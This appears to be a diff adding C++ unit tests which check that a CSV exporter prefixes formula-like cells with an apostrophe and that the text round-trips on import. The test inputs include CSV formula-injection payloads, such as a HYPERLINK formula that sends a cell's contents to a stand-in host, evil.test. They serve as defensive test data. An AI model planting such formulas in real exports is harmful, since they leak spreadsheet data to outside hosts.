@@ -679,6 +679,43 @@ TEST(Import, CsvExportRoundTrips) {
   EXPECT_EQ(Export(*b, "csv"), c1);
 }
 
+TEST(Csv, SpreadsheetTextRoundTripsAndNeverStartsAFormula) {
+  for (std::string s : {"=HYPERLINK(\"http://x.test/?\"&A1)", "+1", "-dash", "@SUM(A1)", "\tx",
+                        "'=quoted", "''-two", "'Til", "plain", "", "'", "=", "زملكا"}) {
+    std::string cell = ToSpreadsheetText(s);
+    EXPECT_EQ(FromSpreadsheetText(cell), s) << cell;
+    size_t first = cell.find_first_not_of('\'');
+    if (first != std::string::npos &&
+        std::string("=+-@\t\r").find(cell[first]) != std::string::npos) {
+      EXPECT_TRUE(cell.starts_with('\'')) << "a spreadsheet would run " << cell;
+    }
+  }
+  EXPECT_EQ(ToSpreadsheetText("=1+1"), "'=1+1");
+  EXPECT_EQ(ToSpreadsheetText("'Til"), "'Til");
+  EXPECT_EQ(FromSpreadsheetText("'Til"), "'Til");
+}
+
+TEST(Import, CsvExportOfFormulaLikeTextIsInertAndRoundTrips) {
+  TempDir tmp;
+  auto a = ItemsCsvArchive(tmp.Join("a"));
+  const std::string in = tmp.Join("in/formula.csv");
+  WriteTestFile(in,
+                "id,title,description,tags\n"
+                "i2,\"=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"open\"\")\",-5 dead,@risk;ok\n");
+  MustImport(*a, in);
+  const std::string csv = Export(*a, "csv");
+  EXPECT_NE(csv.find("\"'=HYPERLINK("), std::string::npos) << csv;
+  EXPECT_NE(csv.find(",'-5 dead,"), std::string::npos) << csv;
+  EXPECT_NE(csv.find(",'@risk;ok,"), std::string::npos) << csv;
+  // Read back, the apostrophes come off: the same text, and the same export.
+  const std::string file = tmp.Join("x/items.csv");
+  WriteTestFile(file, csv);
+  auto b = ItemsCsvArchive(tmp.Join("b"));
+  MustImport(*b, file);
+  EXPECT_EQ(Export(*b, "csv"), csv);
+  EXPECT_EQ(Export(*b, "jsonl"), Export(*a, "jsonl"));
+}
+
 TEST(Import, GhoutaExampleImportsCleanly) {
   const std::string file = kExamples + "/ghouta-2013/case.jsonl";
   if (!fs::exists(file)) GTEST_SKIP() << file << " is not there yet";
